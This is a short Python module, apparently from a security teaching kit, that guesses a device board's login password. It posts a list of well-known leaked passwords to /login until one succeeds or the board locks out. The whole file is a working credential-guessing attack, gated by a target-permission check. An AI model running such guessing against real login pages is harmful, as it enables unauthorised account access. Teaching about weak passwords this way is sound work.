"""Guessing the password."""

import json

from kit.attacks.attack import Attack, Step, came_back, target
from kit.board.board import Board
from kit.errors import interruptible
from kit.ota.web import JSON

# From the top of the lists of leaked passwords (SecLists, Passwords/Common-Credentials), and the tutorial's own
PASSWORDS = ("123456", "password", "12345678", "admin123", "qwerty", "123456789", "letmein", "monkey", "abc123")


@interruptible
def guess(board: Board | str, *, confirm: bool = False) -> Attack:
    """Try passwords that everybody knows, as a stranger, until one is right or the board takes no more.

    A board that locks strangers out does so for ten minutes; who has logged in before is let in all the same.

    Raises:
        KitError: this board may not be attacked, or does not answer.
    """
    web = target(board, confirm)
    wrong = 0
    for password in PASSWORDS:
        answer = web.request("POST", "/login", body=json.dumps({"password": password}).encode(), headers=JSON)
        if answer.status != 401:
            break
        wrong += 1
    steps = [Step(f"{wrong} known password{'s' * (wrong != 1)}, one after the other", "401 each")] if wrong else []
    if answer.status != 401:
        wait = f"for {answer.headers['Retry-After']} s more" if "Retry-After" in answer.headers else ""
        what = f"the password {password!r}" if answer.is_ok else "one password more"
        steps.append(Step(what, came_back(answer), wait))
    return Attack("Guessing the password", tuple(steps), answer.is_ok)
